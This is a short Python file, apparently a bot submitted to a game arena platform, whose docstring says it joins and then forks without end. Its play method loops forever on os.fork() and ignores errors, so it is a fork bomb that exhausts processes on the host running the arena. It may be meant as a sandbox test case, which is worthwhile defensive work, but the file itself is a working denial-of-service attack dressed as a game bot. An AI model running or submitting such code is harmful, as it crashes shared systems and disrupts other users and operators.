"""Joins, then forks without end on its first turn: children fork too."""

import os

from arena.sdk import Bot, run


class ForkBomb(Bot):
    def play(self, view):
        while True:
            try:
                os.fork()
            except OSError:
                pass


run(ForkBomb())
